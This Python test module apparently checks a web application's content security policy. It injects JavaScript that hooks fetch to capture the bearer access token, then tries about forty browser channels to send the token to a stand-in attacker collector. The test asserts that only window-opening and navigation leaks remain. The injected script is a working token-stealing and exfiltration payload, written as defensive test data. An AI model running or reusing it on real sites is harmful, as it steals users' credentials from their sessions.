"""Try every way in which a browser can send data out of a page, with whatever the script could find; in the usual
design that is the access token. What arrives is the list of channels that our policy leaves open.
"""

from tests.attacks.speech import said

GRAB = """
  let loot = "nothing";
  const real = globalThis.fetch;
  globalThis.fetch = function (...all) {
    const headers = new Request(...all).headers.get("authorization");
    if (headers) loot = headers.slice(7);
    return real.apply(this, all);
  };
  globalThis.grabbed = () => loot;"""
SEND = """
  const loot = encodeURIComponent(globalThis.grabbed()), to = (way) => `${known.evil}/${way}?${loot}`;
  const add = (tag, more, where = document.body) => where.append(Object.assign(document.createElement(tag), more));
  const ways = {
    "fetch": () => fetch(to("fetch"), { mode: "no-cors" }),
    "fetch-keepalive": () => fetch(to("fetch-keepalive"), { mode: "no-cors", keepalive: true, method: "POST", body: loot }),
    "xhr": () => { const ask = new XMLHttpRequest(); ask.open("GET", to("xhr")); ask.send(); },
    "beacon": () => navigator.sendBeacon(to("beacon"), loot),
    "eventsource": () => new EventSource(to("eventsource")),
    "websocket": () => new WebSocket(to("websocket").replace("http", "ws")),
    "webtransport": () => new WebTransport(to("webtransport").replace("http", "https")),
    "image": () => { new Image().src = to("image"); },
    "srcset": () => add("img", { srcset: to("srcset") + " 1x" }),
    "picture": () => document.body.append(new DOMParser().parseFromString(`<picture><source srcset="${to("picture")}"><img></picture>`, "text/html").body.firstChild),
    "svg-image": () => { const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"), each = document.createElementNS("http://www.w3.org/2000/svg", "image"); each.setAttribute("href", to("svg-image")); svg.append(each); document.body.append(svg); },
    "audio": () => new Audio(to("audio")).load(),
    "video": () => add("video", { src: to("video"), poster: to("poster"), preload: "auto" }),
    "track": () => { const video = document.createElement("video"); video.append(Object.assign(document.createElement("track"), { src: to("track"), default: true })); document.body.append(video); },
    "style": () => { document.body.style.backgroundImage = `url(${to("style")})`; },
    "adopted": () => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { background: url(${to("adopted")}) }`); document.adoptedStyleSheets = [sheet]; },
    "stylesheet": () => add("link", { rel: "stylesheet", href: to("stylesheet") }, document.head),
    "font": () => { const face = new FontFace("x", `url(${to("font")})`); face.load().catch(() => 0); },
    "icon": () => add("link", { rel: "icon", href: to("icon") }, document.head),
    "manifest": () => add("link", { rel: "manifest", href: to("manifest") }, document.head),
    "prefetch": () => add("link", { rel: "prefetch", href: to("prefetch") }, document.head),
    "prerender": () => add("link", { rel: "prerender", href: to("prerender") }, document.head),
    "preload": () => add("link", { rel: "preload", as: "image", href: to("preload") }, document.head),
    "modulepreload": () => add("link", { rel: "modulepreload", href: to("modulepreload") }, document.head),
    "preconnect": () => add("link", { rel: "preconnect", href: to("preconnect") }, document.head),
    "dns": () => add("link", { rel: "dns-prefetch", href: to("dns") }, document.head),
    "script": () => add("script", { src: to("script") }, document.head),
    "import": () => import(to("import")).catch(() => 0),
    "worker": () => new Worker(to("worker")),
    "frame": () => add("iframe", { src: to("frame") }),
    "object": () => add("object", { data: to("object") }),
    "embed": () => add("embed", { src: to("embed") }),
    "base": () => { add("base", { href: to("base") }, document.head); new Image().src = "base-relative"; },
    "form": () => { const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: to("form"), method: "post", target: "_blank" })); form.submit(); },
    "ping": () => { const link = document.body.appendChild(Object.assign(document.createElement("a"), { href: "#", ping: to("ping") })); link.click(); },
    "attribution": () => { const link = document.createElement("img"); link.setAttribute("attributionsrc", to("attribution")); document.body.append(link); },
    "speculation": () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [to("speculation")] }] }) }, document.head),
    "refresh": () => add("meta", { httpEquiv: "refresh", content: `600; url=${to("refresh")}` }, document.head),
    "report": () => add("meta", { httpEquiv: "Content-Security-Policy", content: `img-src 'self'; report-uri ${to("report")}` }, document.head),
    "xslt": () => { const made = new XSLTProcessor(); made.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${to("xslt")}"/></xsl:stylesheet>`, "text/xml")); },
    "payment": () => new PaymentRequest([{ supportedMethods: to("payment") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => 0),
  };
  const said = [];
  for (const [name, way] of Object.entries(ways)) { try { await Promise.race([way(), new Promise((done) => setTimeout(done, 300))]); } catch (error) { said.push(`${name}: ${error.name}`); } }
  await new Promise((done) => setTimeout(done, 1500));
  return said;"""
WINDOW = """
  const loot = encodeURIComponent(globalThis.grabbed());
  addEventListener("click", () => { open(`${known.evil}/window?${loot}`, "_blank", "noopener"); }, { once: true, capture: true });"""
LEAVE = """
  const loot = encodeURIComponent(globalThis.grabbed());
  setTimeout(() => location.assign(`${known.evil}/navigation?${loot}`));"""
OPEN = {"window", "navigation"}
REMAINS = "carries out what the page shows, by leaving for an address or opening one"


def act(scene):
    visitor, subject = scene.visitor, scene.subject
    subject.sign_in(visitor)
    scene.run(said(GRAB))
    subject.call(visitor)
    scene.run(said(SEND))
    scene.run(said(WINDOW))
    visitor.click("user")
    scene.evil.wait("/window")
    scene.run(said(LEAVE), leaves=True)
    scene.evil.wait("/navigation")


def ways(collector):
    """Return the ways by which anything arrived."""
    return {heard.path.strip("/") for heard in list(collector.heard)} - {"favicon.ico"}


def test_page_held(assault, page_held):
    assert assault(page_held).stolen


def test_ours(assault, ours, collector):
    outcome = assault(ours)
    assert ways(collector) == OPEN
    assert outcome.stolen == ()
